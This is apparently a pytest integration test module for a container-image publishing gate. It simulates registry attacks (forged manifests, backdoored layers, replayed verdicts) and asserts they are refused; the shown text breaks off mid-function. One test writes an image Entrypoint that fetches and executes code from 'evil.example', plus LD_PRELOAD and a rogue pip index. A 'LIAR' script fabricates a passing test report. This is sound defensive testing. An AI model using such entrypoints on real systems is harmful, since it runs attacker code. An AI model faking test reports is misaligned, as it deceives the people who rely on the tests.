"""The gate, second pass, on the real engine and registry (issue 27): verify tests exactly the staged digest; a pass
counts only when a trusted key signed it and it was not changed since; an ancestor gets a pass only when the
tested leaf was built on exactly that image; an image that writes its own passing report is not published.

One matrix (a salted base, a thin leaf) is staged by one machine and verified by another whose engine holds
another build of the leaf's key. Each attack is then made with push rights alone (no key) on what was staged,
refused, and undone; last, the clean publish goes through."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import http.client
import json
import re
import subprocess
import threading
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from imagebuilder.evidence import attestation, passes
from imagebuilder.evidence.passes import RegistryPasses
from imagebuilder.evidence.signing import Keys, Signer, Trust
from imagebuilder.ports.engine import DockerEngine
from imagebuilder.ports.registry import Registry

from .conftest import (
    REGISTRY,
    CliRun,
    cpu_matrix,
    dockerfile_context,
    job_key,
    public_key,
    registry_tags,
    report,
    run_cli,
    salted_layers,
)

LIAR = '''"""Writes a passing report of its own for the smoke suite, and exits before the suite runs."""
import json, os, sys
if "--report" in sys.argv:
    report = {"passed": True, "gpu_verified": False, "gpus": 0,
              "checks": [{"name": "versions.torch", "status": "pass"}]}
    with open(sys.argv[sys.argv.index("--report") + 1], "w") as out:
        json.dump(report, out)
    print(json.dumps(report), flush=True)
    os._exit(0)
'''


class Forward(BaseHTTPRequestHandler):
    """One request, passed on to the registry as it came (its Host too, so upload URLs come back through the
    proxy), unless the proxy refuses it."""

    protocol_version = "HTTP/1.1"
    server: TagRefusingProxy

    def log_message(self, fmt: str, *args: object) -> None:
        pass

    def forward(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.server.refuses(self.command, self.path):
            data = b'{"errors":[{"code":"DENIED","message":"requested access to the resource is denied"}]}'
            status, headers, length = 403, [("Content-Type", "application/json")], None
        else:
            upstream = http.client.HTTPConnection(*self.server.upstream, timeout=60)
            upstream.request(self.command, self.path, body=body or None, headers={
                k: v for k, v in self.headers.items() if k.lower() not in ("connection", "content-length")})
            answer = upstream.getresponse()
            status, data = answer.status, answer.read()
            headers = [(k, v) for k, v in answer.getheaders()
                       if k.lower() not in ("connection", "transfer-encoding", "content-length")]
            length = answer.getheader("Content-Length", "0") if self.command == "HEAD" else None
            upstream.close()
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", length if length is not None else str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_HEAD = do_PUT = do_POST = do_PATCH = do_DELETE = forward


class TagRefusingProxy(ThreadingHTTPServer):
    """The registry behind a proxy that denies the `nth` manifest PUT under a public tag, as a registry's tag
    protection, a quota or a token's scope would: the entry's second tag fails to point."""

    daemon_threads = True

    def __init__(self, upstream: str, nth: int) -> None:
        super().__init__(("127.0.0.1", 0), Forward)
        host, port = upstream.rsplit(":", 1)
        self.upstream, self.nth, self.seen, self.refused = (host, int(port)), nth, 0, ""
        self.host = f"127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def refuses(self, method: str, path: str) -> bool:
        tag = re.fullmatch(r"/v2/.+/manifests/([\w][\w.-]*)", path)
        if method != "PUT" or tag is None or tag[1].startswith("cache-") or attestation.is_evidence_tag(tag[1]):
            return False
        self.seen += 1
        if self.seen == self.nth:
            self.refused = tag[1]
        return self.seen == self.nth


@dataclass(frozen=True)
class Staged:
    folder: Path
    matrix: Path
    repo: str  # itest/<repository>
    nodes: dict[str, dict[str, object]]  # layer -> its node in stage's report
    verify: CliRun
    verified: dict[str, dict[str, object]]  # layer -> its node in verify's report
    other: str  # the other build of the leaf's key on this engine
    verifier: Path  # the verifying machine's public key
    builder: Path  # the staging machine's public key (its build records)

    def key_tag(self, layer: str) -> str:
        return f"cache-{str(self.nodes[layer]['key'])[:12]}"


def build_on(engine: DockerEngine, base: str, labels: dict[str, str], marker: str) -> str:
    """A thin image on `base` with these labels: what another build (of the same key) would be."""
    dockerfile = f"FROM {base}\nRUN echo {marker} > /tmp/{marker}\nLABEL " + " ".join(
        f"{k}={json.dumps(v)}" for k, v in labels.items()) + "\n"
    return engine.build(dockerfile_context(dockerfile), network="none", sink=lambda line: None)


@pytest.fixture(scope="module")
def staged(engine: DockerEngine, registry: str, wheelhouse: Path, base_image: str,
           tmp_path_factory: pytest.TempPathFactory) -> Staged:
    folder = tmp_path_factory.mktemp("gate")
    repository = f"itest-gate-{uuid.uuid4().hex[:8]}"
    layers = salted_layers(folder / "layers", ["base"], f"itest gate {repository}")
    (layers / "leaf").mkdir()
    (layers / "leaf" / "Dockerfile.j2").write_text(f"FROM {{{{ parent_image }}}}\nRUN echo {repository} > /opt/leaf\n")
    matrix = cpu_matrix(folder, repository, wheelhouse, layers="[base, leaf]", extra="layers_path: [layers]\n")
    stage = run_cli("--cache-dir", str(folder / "m1"), "stage", "--matrix", str(matrix), "--report",
                    str(folder / "stage"))
    assert stage.code == 0, stage.text[-3000:]
    nodes = {n["layer"]: n for n in report(folder / "stage")["nodes"]}
    # This runner built the matrix before: it holds another image with the leaf's key (same inputs, another build),
    # and not the one that was staged.
    other = build_on(engine, str(nodes["base"]["image"]), {"io.imagebuilder.key": str(nodes["leaf"]["key"])}, "other")
    engine.remove_image(str(nodes["leaf"]["image"]))
    builder = public_key(folder / "builder.pub", folder / "m1")  # the verifier trusts the stager's build records
    verify = run_cli("--cache-dir", str(folder / "m2"), "--trust-build-key", str(builder), "verify", "--matrix",
                     str(matrix), "--report", str(folder / "verify"))
    verified = {n["layer"]: n for n in report(folder / "verify")["nodes"]}
    return Staged(folder, matrix, f"itest/{repository}", nodes, verify, verified, other,
                  public_key(folder / "verifier.pub", folder / "m2"), builder)


def test_verify_tests_the_staged_digest_not_another_build_of_its_key(staged: Staged) -> None:
    assert staged.verify.code == 0, staged.verify.text[-3000:]
    leaf = staged.verified["leaf"]
    assert leaf["smoke"] == "passed" and leaf["image"] == staged.nodes["leaf"]["image"] != staged.other
    assert leaf["digest"] == staged.nodes["leaf"]["digest"]
    assert str(leaf["pass_record"]).endswith("(written by this run)")
    assert str(staged.verified["base"]["pass_record"]).startswith("registry ")  # the base, via the leaf


def trusting(staged: Staged) -> tuple[str, ...]:
    """The keys a publish or promote job names: the verifier's for passes, the stager's for build records."""
    return "--trust-key", str(staged.verifier), "--trust-build-key", str(staged.builder)


def publish(staged: Staged, machine: str) -> tuple[CliRun, dict[str, dict[str, object]]]:
    run = run_cli("--cache-dir", str(staged.folder / machine), *trusting(staged), "publish", "--matrix",
                  str(staged.matrix), "--report", str(staged.folder / machine), env=job_key(staged.folder))
    folder = staged.folder / machine
    nodes = {n["layer"]: n for n in report(folder)["nodes"]} if (folder / "report.json").exists() else {}
    return run, nodes


def test_only_what_was_tested_and_signed_is_published(engine: DockerEngine, registry: str, staged: Staged) -> None:
    reg = Registry.for_host(registry)
    repo = staged.repo
    trust = Keys.load(staged.folder / "m2" / "keys", {}).trust
    leaf_digest, base_digest = str(staged.nodes["leaf"]["digest"]), str(staged.nodes["base"]["digest"])
    record_tag = next(t for t in passes.tags_for(leaf_digest, registry_tags(registry, repo, cache=True))
                      if RegistryPasses(reg, trust).read(repo, t).record is not None)
    original = reg.manifest(repo, record_tag)

    # 1. A signed record changed afterwards (its expectations edited): refused, named.
    doc = json.loads(original[0])
    envelope = json.loads(reg.blob(repo, doc["layers"][0]["digest"]))
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["expect"]["throughput_floor"] = 0.0
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    data = json.dumps(envelope).encode()
    doc["layers"][0].update(digest=reg.put_blob(repo, data), size=len(data))
    reg.put_manifest(repo, record_tag, json.dumps(doc).encode(), original[1])
    tampered, nodes = publish(staged, "m3")
    assert tampered.code == 1 and "does not verify: the record was changed after it was signed" in \
        str(nodes["leaf"]["error"]), tampered.text[-3000:]
    assert registry_tags(registry, repo) == []
    reg.put_manifest(repo, record_tag, *original)  # undone

    # 2. Push rights, no key: the leaf's key tag moved to another image, with a record beside it signed by a key
    #    of its own. publish and promote count nothing, and say why: no trusted build record names that image.
    engine.tag(staged.other, f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    forged_digest = engine.push(f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    reg.copy(repo, forged_digest, repo, "nightly-forged")
    legit = RegistryPasses(reg, trust).read(repo, record_tag).record
    assert legit is not None
    forged = dataclasses.replace(legit, config=staged.other)  # the same claims, about the other image
    intruder = Signer.generate("someone with push rights")
    RegistryPasses(reg, Trust((intruder.public,)), intruder).put(repo, forged.at(forged_digest, f"{REGISTRY}/{repo}"))
    minted, nodes = publish(staged, "m4")  # the key tag names an image no trusted build record vouches for
    assert minted.code == 2 and "not staged by a trusted build key" in minted.err, minted.text[-3000:]
    assert f"key tag {REGISTRY}/{repo}:{staged.key_tag('leaf')}" in minted.err
    assert registry_tags(registry, repo) == ["nightly-forged"]
    promoted = run_cli(*trusting(staged), "promote", "--matrix", str(staged.matrix), "--from",
                       f"{REGISTRY}/{repo}:nightly-*", "--to", "stable-{match}")
    assert promoted.code == 1 and "refused: no pass record that counts" in promoted.out, promoted.text
    assert "signed by an untrusted key" in promoted.out
    reg.copy(repo, leaf_digest, repo, staged.key_tag("leaf"))  # undone

    # 3. The base rebuilt by another machine under its key (key tag moved): no trusted build record names the new
    #    image, so publish stops before anything, naming the key tag and why (the leaf was built on the old base).
    rebuilt = build_on(engine, str(staged.nodes["base"]["image"]), {"io.imagebuilder.key": str(
        staged.nodes["base"]["key"])}, "rebuilt")
    engine.tag(rebuilt, f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
    engine.push(f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
    moved, nodes = publish(staged, "m5")
    assert moved.code == 2 and "not staged by a trusted build key" in moved.err, moved.text[-3000:]
    assert f"{staged.key_tag('base')} names" in moved.err and "no build record is beside it" in moved.err
    assert registry_tags(registry, repo) == ["nightly-forged"]
    reg.copy(repo, base_digest, repo, staged.key_tag("base"))  # undone
    engine.remove_image(rebuilt)  # (its key is this module's own, but no later plan should find it)

    # 4. The registry denies the entry's second tag: the first, already pointed, is removed again (on this
    #    Distribution 2.x registry, which deletes no tag, through a throwaway manifest) and nothing else is touched.
    def tags() -> dict[str, str | None]:  # (every tag but the SBOMs, which this run may attach beside the digests,
        return {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo, cache=True)  # and the
                if not t.startswith("sha256-") or passes.is_record_tag(t)}  # attestations and index listing them)

    before = tags()
    proxy = TagRefusingProxy(registry, nth=2)
    through = staged.folder / "through-proxy.yaml"
    through.write_text(staged.matrix.read_text().replace(registry, proxy.host))
    refused = run_cli("--cache-dir", str(staged.folder / "m6"), *trusting(staged), "publish",
                      "--matrix", str(through), "--report", str(staged.folder / "m6"), env=job_key(staged.folder))
    proxy.shutdown()
    assert refused.code == 1 and proxy.refused and "HTTP 403" in refused.out, refused.text[-3000:]
    assert "every tag of the entry is as it was" in refused.out, refused.text[-3000:]
    assert tags() == before

    # 5. As staged and verified: published, every tag naming the digest that was tested.
    clean, nodes = publish(staged, "m7")
    assert clean.code == 0, clean.text[-3000:]
    assert nodes["leaf"]["digest"] == leaf_digest and nodes["base"]["digest"] == base_digest
    assert all(reg.manifest_digest(repo, str(t).rsplit(":", 1)[1]) == nodes[layer]["digest"]
               for layer in ("base", "leaf") for t in nodes[layer]["tags"])  # type: ignore[union-attr]


# Issue 39: trust by content. Each attack is played as an outsider with push rights would play it: the docker CLI
# and plain HTTP calls to the registry, no project code; honest jobs then run as CI runs them, and refuse it.

def call(method: str, url: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, bytes,
                                                                                                    dict[str, str]]:
    request = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as resp:
            return resp.status, resp.read(), dict(resp.headers)
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(), dict(exc.headers)


MANIFEST_TYPES = "application/vnd.oci.image.manifest.v1+json, application/vnd.docker.distribution.manifest.v2+json"


def get_manifest(repo: str, reference: str) -> tuple[dict[str, Any], str]:
    status, body, headers = call("GET", f"http://{REGISTRY}/v2/{repo}/manifests/{reference}",
                                 headers={"Accept": MANIFEST_TYPES})
    assert status == 200, (reference, status, body[:200])
    return json.loads(body), headers["Content-Type"]


def put_manifest(repo: str, reference: str, doc: dict[str, Any], media_type: str) -> str:
    status, body, headers = call("PUT", f"http://{REGISTRY}/v2/{repo}/manifests/{reference}",
                                 json.dumps(doc).encode(), {"Content-Type": media_type})
    assert status == 201, (status, body[:300])
    return str(headers["Docker-Content-Digest"])


def put_blob(repo: str, data: bytes) -> str:
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    status, _, headers = call("POST", f"http://{REGISTRY}/v2/{repo}/blobs/uploads/")
    assert status == 202, status
    location = headers["Location"]
    location = location if location.startswith("http") else f"http://{REGISTRY}{location}"
    status, body, _ = call("PUT", f"{location}{'&' if '?' in location else '?'}digest={digest}", data,
                           {"Content-Type": "application/octet-stream"})
    assert status == 201, (status, body[:300])
    return digest


def docker(*args: str) -> str:
    done = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout.strip()


def docker_build_on(image: str, marker: str, folder: Path) -> str:
    """An image built FROM `image` with one more layer (its labels inherited): the attacker's."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "Dockerfile").write_text(f"FROM {image}\nRUN echo {marker} > /tmp/backdoor\n")
    return docker("build", "-q", "--network", "none", str(folder))


# Issue 39's attacks, each played as an outsider with push rights only (plain registry HTTP calls and the docker
# CLI, no project code); the honest machines are the project's CLI. The key tags are put back after each, however
# it ended (`key_tags_restored`); the verdict tags the third writes stay (no later test publishes this repository).


@pytest.fixture
def key_tags_restored(registry: str, staged: Staged) -> Iterator[None]:
    yield
    reg = Registry.for_host(registry)
    for layer in ("base", "leaf"):
        reg.copy(staged.repo, str(staged.nodes[layer]["digest"]), staged.repo, staged.key_tag(layer))


def test_a_poisoned_key_tag_is_not_built_on(engine: DockerEngine, registry: str, staged: Staged,
                                           key_tags_restored: None) -> None:
    repo = staged.repo
    leaf_digest = str(staged.nodes["leaf"]["digest"])
    engine.remove_image(staged.other)  # (the earlier tests' other build of the leaf's key: this runner has none)

    # 1. A poisoned key tag. The attacker builds an image FROM the staged leaf (its labels, the key among them,
    #    inherited) with a backdoor, and pushes it under the leaf's key tag. A runner that does not hold the leaf
    #    stages a matrix with a child layer on it: the key tag's image has no build record by a trusted build key,
    #    so the leaf is built again, and the child on that; the backdoor is in nothing it built or pushed.
    docker("pull", "-q", f"{REGISTRY}/{repo}@{leaf_digest}")
    poisoned = docker_build_on(f"{REGISTRY}/{repo}@{leaf_digest}", "poisoned", staged.folder / "attack-1")
    docker("tag", poisoned, f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    docker("push", "-q", f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    poisoned_layer = engine.inspect(poisoned)["RootFS"]["Layers"][-1]
    docker("rmi", "-f", poisoned, f"{REGISTRY}/{repo}@{leaf_digest}")
    for image in engine.api.images(filters={"label": f"io.imagebuilder.key={staged.nodes['leaf']['key']}"}, all=True):
        subprocess.run(["docker", "rmi", "-f", str(image["Id"])], capture_output=True, timeout=120)  # (an earlier
        # publish on this engine pulled the honest leaf: the runner here does not hold it)
    with_child = staged.folder / "with-child.yaml"
    (staged.folder / "layers" / "child").mkdir(exist_ok=True)
    (staged.folder / "layers" / "child" / "Dockerfile.j2").write_text("FROM {{ parent_image }}\nRUN echo child > "
                                                                       "/opt/child\n")
    with_child.write_text(staged.matrix.read_text().replace("layers: [base, leaf]", "layers: [base, leaf, child]"))
    staged_again = run_cli("--cache-dir", str(staged.folder / "m1"), "stage", "--matrix", str(with_child),
                           "--report", str(staged.folder / "attack-1-stage"))
    assert staged_again.code == 0, staged_again.text[-3000:]
    nodes = {n["layer"]: n for n in report(staged.folder / "attack-1-stage")["nodes"]}
    assert nodes["leaf"]["build"] == "built" and nodes["child"]["build"] == "built", staged_again.out[-3000:]
    assert "not reused: no build record is beside it" in staged_again.out, staged_again.out[-3000:]
    child_layers = engine.inspect(str(nodes["child"]["image"]))["RootFS"]["Layers"]
    assert poisoned_layer not in child_layers


def test_a_forged_base_label_credits_no_ancestor(registry: str, staged: Staged, key_tags_restored: None) -> None:
    repo, reg = staged.repo, Registry.for_host(registry)
    base_digest, leaf_digest = str(staged.nodes["base"]["digest"]), str(staged.nodes["leaf"]["digest"])

    # 2. A forged label chain (N1). The base's key tag moves to an image with an extra layer; the leaf's key tag to
    #    the honest leaf's layers, byte for byte, under a config whose base label names that image. An honest
    #    verify runs the suite (it passes: the layers are honest) and writes no pass beside the forged base:
    #    "built on" is read from layers. publish moves no tag to it.
    docker("pull", "-q", f"{REGISTRY}/{repo}@{base_digest}")
    evil = docker_build_on(f"{REGISTRY}/{repo}@{base_digest}", "evil", staged.folder / "attack-2")
    docker("tag", evil, f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
    docker("push", "-q", f"{REGISTRY}/{repo}:{staged.key_tag('base')}")
    evil_digest = reg.manifest_digest(repo, staged.key_tag("base"))
    leaf_doc, leaf_type = get_manifest(repo, leaf_digest)
    config = json.loads(call("GET", f"http://{REGISTRY}/v2/{repo}/blobs/{leaf_doc['config']['digest']}")[1])
    config["config"]["Labels"]["org.opencontainers.image.base.digest"] = evil
    leaf_doc["config"]["digest"] = put_blob(repo, json.dumps(config).encode())
    leaf_doc["config"]["size"] = len(json.dumps(config).encode())
    put_manifest(repo, staged.key_tag("leaf"), leaf_doc, leaf_type)
    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
                       "--matrix", str(staged.matrix), "--accept-regression",  # (this machine's noise is not tested)
                       "--report", str(staged.folder / "attack-2-verify"))
    # No trusted build record names the forged base (nor the forged leaf): nothing is tested, and it says so first.
    assert verified.code == 2 and "not staged by a trusted build key" in verified.err, verified.text[-3000:]
    assert f"{staged.key_tag('base')} names {str(evil_digest)[:19]}" in verified.err
    trust = Keys.load(staged.folder / "m2" / "keys", {}).trust
    assert evil_digest is not None
    assert not [t for t in passes.tags_for(evil_digest, registry_tags(registry, repo, cache=True))
                if RegistryPasses(reg, trust).read(repo, t).record is not None]
    before = {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo)}
    forged, _ = publish(staged, "attack-2-publish")
    assert forged.code == 2 and {t: reg.manifest_digest(repo, t) for t in registry_tags(registry, repo)} == before
    assert evil_digest not in before.values()
    docker("rmi", "-f", evil)


# Issue 50: provenance at every joint, keys by role, one judge. Each attack as an outsider plays it (docker CLI and
# plain registry HTTP; the holder of a fleet's key uses the key as its jobs do); the honest machines are the CLI.

def check(staged: Staged, digest: str, *keys: str, policy: tuple[str, ...] = ("build", "pass")) -> CliRun:
    """`imagebuilder check` as a deploy gate runs it: by digest, with the keys it names, the build policy in."""
    return run_cli("check", f"{REGISTRY}/{staged.repo}@{digest}", *keys,
                   *(f"--policy={one}" for one in policy))


def test_an_ancestor_under_another_config_is_neither_tested_nor_published_nor_admitted(
        registry: str, staged: Staged, key_tags_restored: None) -> None:
    """N5-01: the base's key tag re-pushed with the very layers and another config (an Entrypoint that fetches and
    runs code, LD_PRELOAD, another index), by plain HTTP. The layers are honest, so the leaf is 'built on' them by
    diff_ids; only the build record names the config: no trusted one does, so verify tests nothing and credits
    nothing, publish moves no tag, and `check --policy build` refuses the digest."""
    repo = staged.repo
    base_digest = str(staged.nodes["base"]["digest"])
    doc, media_type = get_manifest(repo, base_digest)
    config = json.loads(call("GET", f"http://{REGISTRY}/v2/{repo}/blobs/{doc['config']['digest']}")[1])
    config["config"]["Env"] = [*(config["config"].get("Env") or []), "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libpam.so.0",
                               "PIP_INDEX_URL=https://pypi.evil.example/simple"]
    config["config"]["Entrypoint"] = ["/bin/sh", "-c", "python3 -c 'import urllib.request as u; exec(u.urlopen("
                                      "\"https://evil.example/x\").read())'; exec \"$@\"", "sh"]
    data = json.dumps(config).encode()
    doc["config"].update(digest=put_blob(repo, data), size=len(data))
    swapped = put_manifest(repo, staged.key_tag("base"), doc, media_type)
    assert swapped != base_digest
    before = {t: Registry.for_host(registry).manifest_digest(repo, t) for t in registry_tags(registry, repo)}
    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
                       "--matrix", str(staged.matrix), "--report", str(staged.folder / "n5-01-verify"))
    assert verified.code == 2 and "not staged by a trusted build key" in verified.err, verified.text[-3000:]
    assert f"{staged.key_tag('base')} names {swapped[:19]}" in verified.err
    published, _ = publish(staged, "n5-01-publish")
    assert published.code == 2 and "not staged by a trusted build key" in published.err, published.text[-3000:]
    assert {t: Registry.for_host(registry).manifest_digest(repo, t) for t in registry_tags(registry, repo)} == before
    keys = ("--trust-key", f"gpu,cpu={staged.verifier}", "--trust-key", f"build={staged.builder}")
    refused = check(staged, swapped, *keys)
    assert refused.code == 1 and "no trusted build record names it: no build record is beside it" in refused.out
    honest = check(staged, base_digest, *keys)
    assert honest.code == 0, honest.text  # the honest base: its own record, and the pass through the leaf


def test_a_pushers_leaf_is_not_tested_and_stage_pushes_the_honest_leaf_back(
        registry: str, staged: Staged, key_tags_restored: None) -> None:
    """N5-03: the honest leaf plus a backdoor layer, built with the docker CLI and pushed under the leaf's key tag
    (no build record). verify runs no suite in it and says why before anything; `node stage` does not call the leaf
    done; `check --policy build` refuses the digest; stage, on the machine that built it, pushes the honest leaf
    back under its key tag, saying why."""
    repo = staged.repo
    leaf_digest = str(staged.nodes["leaf"]["digest"])
    docker("pull", "-q", f"{REGISTRY}/{repo}@{leaf_digest}")
    evil = docker_build_on(f"{REGISTRY}/{repo}@{leaf_digest}", "n5-03", staged.folder / "n5-03")
    docker("tag", evil, f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    docker("push", "-q", f"{REGISTRY}/{repo}:{staged.key_tag('leaf')}")
    evil_digest = Registry.for_host(registry).manifest_digest(repo, staged.key_tag("leaf"))
    docker("rmi", "-f", evil, f"{REGISTRY}/{repo}@{leaf_digest}")
    assert evil_digest is not None and evil_digest != leaf_digest
    verified = run_cli("--cache-dir", str(staged.folder / "m2"), "--trust-build-key", str(staged.builder), "verify",
                       "--matrix", str(staged.matrix), "--report", str(staged.folder / "n5-03-verify"))
    assert verified.code == 2 and f"{staged.key_tag('leaf')} names {evil_digest[:19]}" in verified.err, \
        verified.text[-3000:]
    leaf_id = str(staged.nodes["leaf"]["node"])
    node = run_cli("--cache-dir", str(staged.folder / "m1"), "node", "stage", leaf_id, "--matrix", str(staged.matrix),
                   "--report", str(staged.folder / "n5-03-node"), "--digest-file", str(staged.folder / "n5-03.digest"))
    assert node.code == 0 and "nothing to do" not in node.out, node.text[-3000:]
    assert f"names {evil_digest}" in node.out and "pushing this run's image over it" in node.out, node.out[-3000:]
    now = Registry.for_host(registry).manifest_digest(repo, staged.key_tag("leaf"))  # the honest leaf (as this runner
    assert now is not None and now != evil_digest  # holds it, or built again on the staged base) replaced it
    keys = ("--trust-key", f"gpu,cpu={staged.verifier}", "--trust-key", f"build={staged.builder}")
    assert check(staged, now, *keys, policy=("build",)).code == 0  # ... with its build record
    refused = check(staged, evil_digest, *keys)
    assert refused.code == 1 and "no trusted build record names it" in refused.out, refused.text


def test_a_cpu_fleets_key_never_vouches_for_a_gpu_pass(registry: str, staged: Staged, tmp_path: Path) -> None:
    """N5-04: whoever holds the hosted (CPU) fleet's key signs a 'passed on 8x NVIDIA B200' verdict beside the leaf,
    with the tool, as a compromised hosted job would. Named by role (`cpu,publish=`), that key's GPU claim counts
    nowhere: `check --gpu B200` refuses, naming why; named without a role it would count (the control)."""
    repo, reg = staged.repo, Registry.for_host(registry)
    leaf_digest = str(staged.nodes["leaf"]["digest"])
    made = run_cli("keys", "new", str(tmp_path / "hosted"))
    assert made.code == 0, made.text
    hosted = Signer.load(tmp_path / "hosted" / "signing.pem")
    store = RegistryPasses(reg, Trust((hosted.public,)), hosted)
    own = next(r for t in passes.tags_for(leaf_digest, registry_tags(registry, repo, cache=True))
               if ".pass-" in t and (r := RegistryPasses(reg, Trust.of(None, (staged.verifier,))).read(repo, t).record))
    claim = dataclasses.replace(own, gpu={"kind": "gpu", "verified": True, "models": ["NVIDIA B200"], "count": 8},
                                date=passes.now())
    tag = store.put(repo, claim, per_model=True)
    try:
        build = ("--trust-key", f"build={staged.builder}")
        scoped = check(staged, leaf_digest, "--trust-key", f"gpu={staged.verifier}", "--trust-key",
                       f"cpu,publish={tmp_path / 'hosted' / 'signing.pub'}", *build, "--gpu", "B200",
                       policy=("build", "gpu"))
        assert scoped.code == 1 and "no trusted pass on B200" in scoped.out, scoped.text
        assert "which is trusted for cpu, publish, not for gpu" in scoped.out
        unscoped = check(staged, leaf_digest, "--trust-key", str(tmp_path / "hosted" / "signing.pub"), *build,
                         "--gpu", "B200", policy=("build", "gpu"))
        assert unscoped.code == 0, unscoped.text  # (a key named without roles counts for every role)
    finally:
        reg.untag(repo, tag)


def test_a_fresh_cache_folder_meeting_a_published_matrix_says_whom_to_trust_before_building(
        staged: Staged) -> None:
    """Zero-config on a new cache folder: its own key did not build what the registry holds. Before anything builds,
    stage says whose build records are there and what to trust (it used to rebuild everything and then fail on
    the immutable tags)."""
    run = run_cli("--cache-dir", str(staged.folder / "fresh-machine"), "stage", "--matrix", str(staged.matrix),
                  "--report", str(staged.folder / "fresh-stage"))
    assert run.code == 2 and "vouched for by a build key this run does not trust" in run.err, run.text[-3000:]
    assert "--trust-build-key" in run.err and "▶ build" not in run.out
    trusted = run_cli("--cache-dir", str(staged.folder / "fresh-machine"), "--trust-build-key", str(staged.builder),
                      "stage", "--matrix", str(staged.matrix), "--report", str(staged.folder / "fresh-stage"))
    assert trusted.code == 0 and "▶ build" not in trusted.out, trusted.text[-3000:]


def test_an_overwritten_verdict_blocks(registry: str, staged: Staged) -> None:
    repo, reg = staged.repo, Registry.for_host(registry)
    leaf_digest = str(staged.nodes["leaf"]["digest"])

    # 3. An overwritten verdict (N2). The verifier recorded the leaf passing on one GPU model at 09:00 and failing
    #    at 10:00; the attacker copies the 09:00 manifest over the 10:00 tag (plain HTTP). The verdict tag's record
    #    is not the verdict it names: publish refuses the digest, naming the tag.
    verifier = Keys.load(staged.folder / "m2" / "keys", {})
    store = RegistryPasses(reg, verifier.trust, verifier.signer)
    own = next(r for t in passes.tags_for(leaf_digest, registry_tags(registry, repo, cache=True))
               if ".pass-" in t and (r := store.read(repo, t).record) is not None)
    gpu = {"kind": "gpu", "verified": True, "models": ["NVIDIA H100 80GB HBM3"], "count": 2}
    early = dataclasses.replace(own, gpu=gpu, date="2026-11-27T09:00:00+00:00")
    passed_tag = store.put(repo, early, per_model=True)
    failed_tag = store.put(repo, dataclasses.replace(early, verdict=passes.FAILED, date="2026-11-27T10:00:00+00:00"),
                           per_model=True)
    refused, nodes = publish(staged, "attack-3-honest")
    assert refused.code == 1 and "failed this spec's suite on NVIDIA H100" in str(nodes["leaf"]["error"])
    keys = ("--trust-key", str(staged.verifier), "--trust-key", f"build={staged.builder}")
    gate = check(staged, leaf_digest, *keys)  # (N5-02: the deploy gate applies publish's rule)
    assert gate.code == 1 and "failed this spec's suite on NVIDIA H100" in gate.out, gate.text
    doc, media_type = get_manifest(repo, passed_tag)
    put_manifest(repo, failed_tag, doc, media_type)  # the replay
    replayed, nodes = publish(staged, "attack-3-replayed")
    assert replayed.code == 1, replayed.text[-3000:]
    assert f"{failed_tag}: its record is not the verdict this tag names" in str(nodes["leaf"]["error"])
    gate = check(staged, leaf_digest, *keys)
    assert gate.code == 1 and f"{failed_tag}: its record is not the verdict this tag names" in gate.out, gate.text
    image, image_type = get_manifest(repo, leaf_digest)
    put_manifest(repo, failed_tag, image, image_type)  # any manifest over the failure
    gate = check(staged, leaf_digest, *keys)
    assert gate.code == 1 and f"a GPU verdict beside it does not count ({failed_tag}: " in gate.out, gate.text


def test_one_key_one_image_on_a_persistent_engine(engine: DockerEngine, registry: str, wheelhouse: Path,
                                                  staged: Staged) -> None:
    """Issue 39 (5): a runner that keeps its engine, with a two-node chain (mid -> top) on the gate's leaf. `build`,
    then a routine `build --no-cache --only ENTRY/mid` (same key, a new image), then plain `build`s: the key's tags
    keep naming the published digest, the rebuild says so, and every later build passes (it used to refuse every
    plain build of the entry from then on: the newest local image of the key was taken over the one the registry
    names and the evidence is about). Then the chain's images are removed from the engine: the next plain build
    passes too, on what the registry names, pulling nothing."""
    base = f"itest/persistent-base:{uuid.uuid4().hex[:8]}"
    engine.tag(engine.pull(f"{REGISTRY}/{staged.repo}@{staged.nodes['leaf']['digest']}"), base)
    layers = staged.folder / "persistent-layers"
    for name in ("mid", "top"):
        (layers / name).mkdir(parents=True)
        (layers / name / "Dockerfile.j2").write_text(f"FROM {{{{ parent_image }}}}\nRUN echo {name} $RANDOM > "
                                                     f"/opt/{name}\n")
    (staged.folder / "persistent").mkdir()
    matrix = cpu_matrix(staged.folder / "persistent", f"itest-persistent-{uuid.uuid4().hex[:8]}", wheelhouse,
                        layers="[mid, top]", extra=f"layers_path: [{layers}]\n", base_images=(base,))

    def build(name: str, *args: str) -> tuple[CliRun, dict[str, dict[str, object]]]:
        run = run_cli("--cache-dir", str(staged.folder / "persistent-machine"), "build", "--matrix", str(matrix),
